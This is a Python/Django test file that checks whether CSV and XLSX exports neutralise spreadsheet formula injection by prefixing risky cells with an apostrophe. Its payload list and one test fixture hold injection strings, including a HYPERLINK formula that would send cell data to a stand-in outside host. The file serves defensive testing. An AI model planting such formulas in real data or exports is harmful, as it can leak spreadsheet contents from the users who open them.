"""Spreadsheet formula injection (OWASP "CSV injection"): every text cell starting with
= + - @, a tab or a carriage return is written with a leading apostrophe, in CSV and in
XLSX, in every export (they all go through ``export_response``); numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from tests import factories
from tremplin.accounts.models import AuditEntry
from tremplin.web.exports import Column, ExportSource, export_response

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def _Rows(rows: list) -> ExportSource:
    """Rows already computed, as ``export_response`` reads them (audited as AuditEntry)."""
    return ExportSource.of_rows(rows, AuditEntry)


COLUMNS = [Column("Texte", lambda row: row[0]), Column("Montant", lambda row: row[1])]


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def _xlsx(response) -> list[tuple]:
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return list(sheet.iter_rows(min_row=2, values_only=True))


def test_csv_cells_starting_like_a_formula_get_an_apostrophe():
    rows = _Rows([(text, Decimal("-12.50")) for text in PAYLOADS])
    body = _csv(export_response("csv", "essai", COLUMNS, rows))[1:]
    assert [row[0] for row in body] == ["'" + text for text in PAYLOADS]
    # A negative amount is a number, written as one: no apostrophe.
    assert {row[1] for row in body} == {"-12.50"}


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    rows = _Rows([(text, Decimal("-12.50")) for text in PAYLOADS] + [("Martin", -3)])
    values = _xlsx(export_response("xlsx", "essai", COLUMNS, rows))
    # (XML reads a lone carriage return back as a line feed.)
    assert [value[0] for value in values[:-1]] == [
        "'" + text.replace("\r", "\n") for text in PAYLOADS
    ]
    assert values[-1] == ("Martin", -3)
    assert all(value[1] == -12.5 and isinstance(value[1], float) for value in values[:-1])
    sheet = openpyxl.load_workbook(
        io.BytesIO(b"".join(export_response("xlsx", "essai", COLUMNS, rows).streaming_content))
    ).active
    assert {cell.data_type for cell in sheet["A"][1:]} == {"s"}  # no "f" (formula) cell
    assert sheet["B2"].data_type == "n"


def test_ordinary_text_is_left_alone():
    rows = _Rows([("Hérault", 1), ("Jean-Pierre", 2), ("a=b", 3)])
    assert [row[0] for row in _csv(export_response("csv", "essai", COLUMNS, rows))[1:]] == [
        "Hérault",
        "Jean-Pierre",
        "a=b",
    ]


def test_a_name_typed_as_a_formula_is_neutralised_in_the_real_list_export(
    client, referent_user, territory, operator
):
    factories.BeneficiaryFactory(
        territory=territory,
        operator=operator,
        referent=referent_user,
        last_name='=HYPERLINK("http://exemple.invalid";"x")',
    )
    client.force_login(referent_user)
    url = reverse("registry:beneficiary_list")
    rows = _csv(client.get(url, {"format": "csv"}))
    assert rows[1][2] == '\'=HYPERLINK("http://exemple.invalid";"x")'
    values = _xlsx(client.get(url, {"format": "xlsx"}))
    assert values[0][2] == '\'=HYPERLINK("http://exemple.invalid";"x")'
